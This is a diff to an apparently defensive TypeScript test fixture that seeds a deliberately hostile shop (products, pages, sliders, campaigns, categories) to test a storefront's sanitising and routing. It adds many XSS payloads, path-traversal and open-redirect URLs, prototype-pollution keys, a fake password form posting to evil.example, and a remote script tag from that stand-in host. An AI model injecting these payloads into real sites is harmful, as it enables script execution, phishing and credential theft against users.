@@ -8,9 +8,29 @@ export const HOSTILE_SLUG = 'hostile';
 export const ATTACK = 'window.pwned=1';
 const SCRIPT = `</script><script>${ATTACK}</script>`;
 const IMAGE = `<img src=x onerror="${ATTACK}">`;
-const TEXT = `${SCRIPT}${IMAGE}"'><svg onload=${ATTACK}>{{7*7}}\u2028`;
+const TEXT = `${SCRIPT}${IMAGE}"'><svg onload=${ATTACK}>{{7*7}}]]>--><!--\u2028\u2029\u202e\u0007\u001b[2J`;
 const STYLE = `red;}</style>${SCRIPT}<style>`;
 const LINK = `javascript:${ATTACK}`;
+/** Addresses that browsers read differently from how they look. */
+const LINKS = [
+  LINK,
+  `java\nscript:${ATTACK}`,
+  `\tjavascript:${ATTACK}`,
+  `\u0001javascript:${ATTACK}`,
+  `data:text/html,${SCRIPT}`,
+  `vbscript:${ATTACK}`,
+  'https:evil.example',
+  'https:/\\evil.example',
+  '/\\evil.example',
+  '/\t/evil.example',
+  `https://user:pass@evil.example/`,
+  `https://evil.example/"onmouseover="${ATTACK}`,
+  'file:///etc/passwd',
+  '//evil.example/x',
+];
+const SVG = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ATTACK}'/>`;
+/** One id on all four levels, each its own parent. */
+const KNOT = objectId(HOSTILE_SLUG, 'knot');
 
 const NAMES = [
   '../../../etc/passwd',
@@ -24,25 +44,56 @@ const NAMES = [
   'TEA',
   'n'.repeat(300),
   TEXT,
+  '',
+  ' ',
+  '.',
+  '..',
+  '%2e%2e',
+  'page',
+  'a\nb',
+  'a?b#c',
+  'C:evil',
+  '__proto__',
+  'constructor',
+  '\u202egnp.exe',
+  // The id of another category.
+  objectId(HOSTILE_SLUG, 'mega', '0'),
 ];
 
+const IDS: Readonly<Record<number, string>> = {
+  1: '../../escape',
+  2: 'a%2f..%2fb',
+  7: '__proto__',
+  8: 'constructor',
+  9: '404',
+  10: `x"onload="${ATTACK}`,
+};
+
 function product(index: number): SeedDocument {
-  const picture = { src: index % 2 === 0 ? LINK : `media:${HOSTILE_SLUG}/p" onerror="${ATTACK}`, name: TEXT };
+  const sources = [LINK, `media:${HOSTILE_SLUG}/p" onerror="${ATTACK}`, SVG, 'https://evil.example/a.svg'];
+  const picture = { src: sources[index % sources.length], name: TEXT };
   return {
-    _id: index === 1 ? '../../escape' : index === 2 ? 'a%2f..%2fb' : objectId(HOSTILE_SLUG, String(index)),
+    _id: IDS[index] ?? objectId(HOSTILE_SLUG, String(index)),
     name: `${TEXT} ${index}`,
     BnName: TEXT,
     slag: index === 3 ? '../../slug' : `slug-${index}`,
     brandName: TEXT,
-    regular_price: index === 4 ? 'NaN' : '1e309',
+    regular_price: index === 4 ? 'NaN' : index === 7 ? '1e15' : '1e309',
     price: index === 5 ? -5 : '99',
     featuredImage: picture,
-    images: [picture, null, false, { src: `data:text/html,${SCRIPT}` }],
+    images: [
+      picture,
+      null,
+      false,
+      { src: `data:text/html,${SCRIPT}` },
+      [[['/deep.jpg']]],
+      { src: { src: LINK } },
+    ],
     categories: [{ name: NAMES[index % NAMES.length] }, null, false, ''],
     shortDescription: `${IMAGE}<p onclick="${ATTACK}">short</p>${SCRIPT}`,
-    description: `<iframe src="${LINK}"></iframe><a href="${LINK}">x</a><style>*{display:none}</style>${TEXT}`,
-    darazOptionData: [{ [TEXT]: TEXT }],
-    videoUrl: LINK,
+    description: `<iframe src="${LINK}"></iframe>${LINKS.map((link) => `<a href="${link}">x</a>`).join('')}<style>*{display:none}</style><math><mtext><style><img src=x onerror=${ATTACK}></style></mtext></math><form action="https://evil.example"><input name="password"></form><base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><p id="main" class="toasts" style="position:fixed" data-quick-add>x</p>${TEXT}`,
+    darazOptionData: [{ [TEXT]: TEXT }, JSON.parse('{"__proto__":"polluted"}'), [[TEXT]]],
+    videoUrl: index % 2 === 0 ? LINK : `https://www.youtube.com.evil.example/watch?v=${ATTACK}`,
     stock_quantity: TEXT,
     rating: '999',
     metaTitle: TEXT,
@@ -51,6 +102,37 @@ function product(index: number): SeedDocument {
     variations: index === 6 ? null : [{ SKU: TEXT, name: TEXT, size: [TEXT], price: TEXT, offerPrice: '-1' }],
   };
 }
+
+/** Addresses of sellers' own pages that want to be a route, a file or another host. */
+const OWN_PATHS = [
+  TEXT,
+  ...LINKS,
+  '../../x',
+  '/user/cart',
+  '/product/1',
+  '/categories/Tea',
+  '_astro/x',
+  '_shells/product-shell',
+  '_menu/x.json',
+  'index.html',
+  '404',
+  'sitemap.xml',
+  'robots.txt',
+  'release.json',
+  'headers.json',
+  'sw.js',
+  'favicon.svg',
+  '.well-known/x',
+  '..%2f..%2fx',
+  '%2e%2e/x',
+  '/a/../b',
+  'a//b',
+  '\\\\evil.example',
+  'constructor',
+  '__proto__',
+  'about',
+  'ABOUT',
+];
 
 export function hostileShop(): SeedShop {
   const mega = NAMES.map((name, index) => ({
@@ -86,7 +168,7 @@ export function hostileShop(): SeedShop {
       modal: 'true',
       footer: 'true',
     })),
-    pages: [TEXT, LINK, '../../x', '/user/cart', '_astro/x', 'about'].map((url, index) => ({
+    pages: OWN_PATHS.map((url, index) => ({
       _id: objectId(HOSTILE_SLUG, 'page', String(index)),
       title: `${TEXT} ${index}`,
       url,
@@ -95,20 +177,38 @@ export function hostileShop(): SeedShop {
       trash: false,
       description: `${TEXT}<script src="https://evil.example/x.js"></script>`,
     })),
-    posts: [
-      {
-        _id: objectId(HOSTILE_SLUG, 'post'),
-        title: TEXT,
-        message: TEXT,
-        img: LINK,
-        date: TEXT,
-        status: true,
-        category: TEXT,
-      },
-    ],
-    sliders: [{ _id: objectId(HOSTILE_SLUG, 'slider'), image: 'media:hostile/s', link: LINK, status: true }],
+    posts: [objectId(HOSTILE_SLUG, 'post'), '../post', 'page', 'index'].map((_id) => ({
+      _id,
+      title: TEXT,
+      message: TEXT,
+      img: LINK,
+      date: TEXT,
+      status: true,
+      category: TEXT,
+    })),
+    sliders: LINKS.map((link, index) => ({
+      _id: objectId(HOSTILE_SLUG, 'slider', String(index)),
+      image: 'media:hostile/s',
+      link,
+      status: true,
+    })),
     popup: { _id: objectId(HOSTILE_SLUG, 'popup'), image: 'media:hostile/popup', link: LINK, status: true },
-    categories: { mega, sub: [], mini: [], extra: [] },
+    categories: {
+      mega: [...mega, { _id: KNOT, name: 'Knot', menu: true }],
+      sub: [{ _id: KNOT, subCategoryName: 'Knot', megaCategoryId: KNOT }],
+      mini: [{ _id: KNOT, miniCategoryName: 'Knot', subCategoryId: KNOT }],
+      extra: [{ _id: KNOT, extraCategoryName: 'Knot', miniCategoryId: KNOT, img: SVG }],
+    },
+    campaigns: ['../camp', objectId(HOSTILE_SLUG, 'camp')].map((_id, index) => ({
+      _id,
+      name: TEXT,
+      isCam: true,
+      isFlash: true,
+      image: LINK,
+      startTime: '2020-01-01T00:00:00Z',
+      endTime: index === 0 ? TEXT : '9999-12-31T23:59:59Z',
+      products: [{ productId: objectId(HOSTILE_SLUG, '0'), campaignPrice: index === 0 ? TEXT : '1' }],
+    })),
     products: Array.from({ length: 12 }, (_, index) => product(index)),
     searchTerms: [TEXT],
   });
